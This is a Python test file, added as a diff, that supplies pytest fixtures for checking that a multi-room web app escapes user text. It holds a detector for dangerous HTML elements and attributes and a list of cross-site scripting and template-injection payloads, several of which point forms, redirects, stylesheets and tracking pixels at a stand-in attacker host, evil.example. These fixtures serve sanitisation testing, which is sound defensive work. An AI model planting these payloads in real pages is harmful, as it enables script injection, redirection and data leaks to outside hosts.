@@ -1,0 +1,73 @@
+"""What tests of several rooms need."""
+
+import re
+from collections.abc import Callable
+from html.parser import HTMLParser
+
+import pytest
+
+_RUNNING = {
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "base",
+    "link",
+    "frame",
+    "video",
+}
+_LOCAL = ("#", "data:image/png;base64,")
+
+
+class _Elements(HTMLParser):
+    """Collects what a browser would see as elements and attributes."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def _dangers(page: str) -> list[object]:
+    found: list[object] = []
+    for tag, attributes in _Elements(page).found:
+        if tag in _RUNNING:
+            found.append(tag)
+        for name, value in attributes.items():
+            target = re.sub(r"\s", "", (value or "").lower())
+            if name.startswith("on") or name in {"style", "srcdoc", "action"}:
+                found.append((tag, name, value))
+            if name in {"href", "src"} and not target.startswith(_LOCAL):
+                found.append((tag, name, value))
+    return found
+
+
+@pytest.fixture(scope="session")
+def dangers() -> Callable[[str], list[object]]:
+    """List every element or attribute of a page that could run, load or send something."""
+    return _dangers
+
+
+@pytest.fixture(scope="session")
+def attacks() -> tuple[str, ...]:
+    """Texts that run in a browser where a page takes them for markup."""
+    return (
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "</pre></style></title><script>alert(1)</script>",
+        "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) ![x](javascript:alert(1))",
+        "\"><iframe srcdoc='<script>alert(1)</script>'>",
+        "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+        "<form action='https://evil.example'><input name=x autofocus onfocus=alert(1)>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<base href='https://evil.example'><link rel=stylesheet href='https://evil.example/x.css'>",
+        "<style>*{background:url(//evil.example)}</style>",
+        "{{ 7 * 7 }}{% raw %}${7*7}",
+        "<https://evil.example/pixel.png> ![](https://evil.example/pixel.png)",
+    )
